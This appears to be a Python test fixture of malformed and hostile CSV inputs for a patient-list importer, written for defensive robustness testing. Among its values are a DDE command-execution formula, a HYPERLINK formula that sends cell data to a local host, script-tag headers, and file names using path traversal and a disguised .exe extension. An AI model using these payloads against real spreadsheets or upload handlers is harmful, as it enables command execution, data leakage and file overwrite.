"""Tables that are hardly tables."""

import random

from tests.imports.layouts.layout import delimited

from .registry import FEW, hostile, hostiles, rows, text, with_cells

HEADER = rows()[0]
EVERYONE = {p.mrn for p in FEW}

hostiles(
    "only",
    {
        "a-header": lambda: [HEADER],
        "a-header-without-line-end": lambda: ",".join(HEADER),
        "a-header-and-blank-lines": lambda: [HEADER, *([[]] * 30)],
        "a-header-and-commas": lambda: [HEADER, *([[""] * 14] * 30)],
        "totals": lambda: [["Total Patients:", "24"], ["Grand Total", "24"]],
        "a-header-and-totals": lambda: [HEADER, ["Total Patients: 0"], ["Grand Total", "0"]],
        "titles": lambda: [["Recall List"], ["Printed 11/16/2026"], ["Bayview Eye Associates"]],
        "sections": lambda: [[f"Recall Type: {n}"] for n in range(30)],
        "blank-lines": "\r\n" * 500,
        "spaces": " " * 5000,
        "tabs": "\t\t\t\n" * 100,
        "commas": ",,,,,,\r\n" * 100,
        "quotes": '"","",""\r\n' * 100,
        "one-cell": "x",
        "one-newline": "\n",
        "one-column": lambda: [[p.last] for p in FEW],
        "one-row-without-header": lambda: rows()[1:2],
        "digits": lambda: [[str(random.Random(n).randint(0, 9**9)) for _ in range(5)] for n in range(40)],
    },
)


def joined(eol, cells=","):
    return "".join(cells.join(row) + eol for row in rows())


hostiles(
    "line-ends",
    {
        "cr": joined("\r"),
        "mixed": text().replace("\r\n", "\n", 5).replace("\n", "\r", 2),
        "lf-cr": joined("\n\r"),
        "cr-cr-lf": joined("\r\r\n"),
        "vertical-tabs": joined("\v"),
        "form-feeds": joined("\f"),
        "next-line": joined("\x85"),
        "line-separators": joined("\u2028"),
        "record-separators": joined("\x1e"),
        "semicolons": joined(";"),
        "nul": joined("\0"),
        "none": joined(""),
    },
)
hostiles(
    "delimiters",
    {
        "caret": joined("\n", "^"),
        "tilde": joined("\n", "~"),
        "soh": joined("\n", "\x01"),
        "unit-separator": joined("\n", "\x1f"),
        "two-characters": joined("\n", "||"),
        "colons": joined("\n", "::"),
        "spaces": joined("\n", " "),
        "nul": joined("\n", "\0"),
        "thorn": joined("\n", "þ"),
        "comma-and-space": joined("\n", ", "),
        "full-width-comma": joined("\n", "，"),
        "one-in-each-line": "".join(",;|\t"[n % 4].join(row) + "\n" for n, row in enumerate(rows())),
        "soup": "".join(
            "".join(cell + ",;|\t"[(n + m) % 4] for m, cell in enumerate(row)) + "\n" for n, row in enumerate(rows())
        ),
        "separator-line-that-lies": "sep=|\r\n" + text(),
        "commas-in-every-cell": lambda: delimited([[f"{cell}, {cell}" for cell in row] for row in rows()]),
    },
)


def ragged(seed):
    chance = random.Random(seed)
    lines = rows()
    return [lines[0], *(line[: chance.randint(1, 14)] + ["more"] * chance.choice([0, 0, 3]) for line in lines[1:])]


hostiles(
    "rows",
    {
        "ragged-1": lambda: ragged(1),
        "ragged-2": lambda: ragged(2),
        "all-too-short": lambda: [HEADER, *(row[:2] for row in rows()[1:])],
        "all-too-long": lambda: [HEADER, *([*row, *row] for row in rows()[1:])],
        "one-too-long-by-a-comma-in-the-address": text().replace("Apt 4B", "Apt, 4B"),
        "shifted-by-one": lambda: [HEADER, *(["", *row] for row in rows()[1:])],
        "a-hundred-alike": lambda: [HEADER, *(rows()[1:2] * 100)],
        "header-before-each": lambda: [line for row in rows()[1:] for line in (HEADER, row)],
        "transposed": lambda: [list(column) for column in zip(*rows(), strict=True)],
        "in-reverse": lambda: rows()[::-1],
        "two-tables": lambda: [*rows(), [], ["Item", "Price", "Stock"], ["Drops", "9.99", "4"], ["Lenses", "19.99", "2"]],
        "two-lists-of-people-with-other-columns": lambda: [*rows(), [], ["Last Name", "Chart Number"], ["Doe", "299991"]],
        "comment-lines": lambda: [["# exported by nobody"], *rows(), ["# end"]],
        "as-markdown": "".join(
            f"| {' | '.join(row)} |\n" + ("|---" * 14 + "|\n" if not n else "") for n, row in enumerate(rows())
        ),
        "of-fixed-width": "".join("".join(cell[:14].ljust(15) for cell in row) + "\n" for row in rows()),
        "nul-padded": "".join("".join(cell[:14].ljust(15, "\0") for cell in row) + "\n" for row in rows()),
        "nul-between": text().replace(",", "\0,\0"),
        "control-z-at-the-end": text() + "\x1a",
        "ansi-colors": text().replace("O'Brien", "\x1b[1;31mO'Brien\x1b[0m"),
        "backspaces": text().replace("O'Brien", "X\x08O'Brien"),
        "bells-in-the-header": text().replace("Last Name", "Last\x07 Name"),
    },
)
hostiles(
    "header",
    {
        "one-name-for-all": lambda: [["Name"] * 14, *rows()[1:]],
        "all-blank": lambda: [[""] * 14, *rows()[1:]],
        "duplicated-columns": lambda: [row + row for row in rows()],
        "duplicated-columns-that-disagree": lambda: [
            HEADER + HEADER,
            *(row + other for row, other in zip(rows()[1:], rows()[:0:-1], strict=True)),
        ],
        "in-two-lines": lambda: [
            [name.split()[0] for name in HEADER],
            [" ".join(name.split()[1:]) for name in HEADER],
            *rows()[1:],
        ],
        "on-line-60": lambda: [*([[f"Note {n}"] for n in range(59)]), *rows()],
        "on-line-600": lambda: [*([[f"Note {n}"] for n in range(599)]), *rows()],
        "names-of-10000-characters": lambda: [[name * 1000 for name in HEADER], *rows()[1:]],
        "names-with-nul": lambda: [[f"{name}\0" for name in HEADER], *rows()[1:]],
        "names-with-replacement-characters": lambda: [[f"{name}\ufffd" for name in HEADER], *rows()[1:]],
        "names-with-markup": lambda: [[f"<script>{name}</script>" for name in HEADER], *rows()[1:]],
        "names-that-are-formulas": lambda: [[f"={name}" for name in HEADER], *rows()[1:]],
        "names-that-lie": lambda: [[*HEADER[1:], HEADER[0]], *rows()[1:]],
        "names-in-chinese": lambda: [
            ["病历号", "姓", "名", "中间名", "出生日期", "性别", "电话", "手机", "邮箱", "地址", "城市", "州", "邮编", "就诊"],
            *rows()[1:],
        ],
    },
)

STARTERS = {
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(A1)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "pipe": "=cmd|' /C calc'!A0",
    "full-width-equals": "＝1+1",
    "full-width-plus": "＋1",
    "full-width-minus": "－1",
    "full-width-at": "＠SUM(A1)",
    "space": "  =1+1",
    "quote": '"=1+1',
    "link": '=HYPERLINK("http://127.0.0.1:9/?x="&A1,"open")',
    "semicolon": ";=1+1",
}
hostiles("formulas-in-names", {name: (lambda cell=cell: with_cells("Last Name", [cell])) for name, cell in STARTERS.items()})
hostiles(
    "formulas-in",
    {
        "chart-numbers": lambda: with_cells("Chart Number", [f"={n}+1" for n in range(12)]),
        "excel-quoted-texts": lambda: [[f'="{cell}"' if n else cell for cell in row] for n, row in enumerate(rows())],
        "every-cell": lambda: [HEADER, *([["=1+1"] * 14] * 12)],
        "emails": lambda: with_cells("Email", ["=1+1@example.com", "@example.com"]),
    },
)

hostiles("file-name", {"climbs": rows}, file_name="../../../etc/cron.d/patients.csv")
hostiles("file-name", {"nul": rows}, file_name="pat\0ients.csv")
hostiles("file-name", {"long": rows}, file_name="n" * 4000 + ".csv")
hostiles("file-name", {"reversed": rows}, file_name="patients\u202evsc.exe")
hostiles("file-name", {"controls": rows}, file_name="pati\x1b[31ments\r\n\ufffd.csv")
hostiles("file-name", {"none": rows}, file_name="")
hostiles("file-name", {"surrogate": rows}, file_name="patients\udcff.csv")
hostiles("file-name", {"ends-in-exe": rows}, file_name="patients.csv.exe")
hostile("good-list-as-a-control", rows, survivors=EVERYONE)
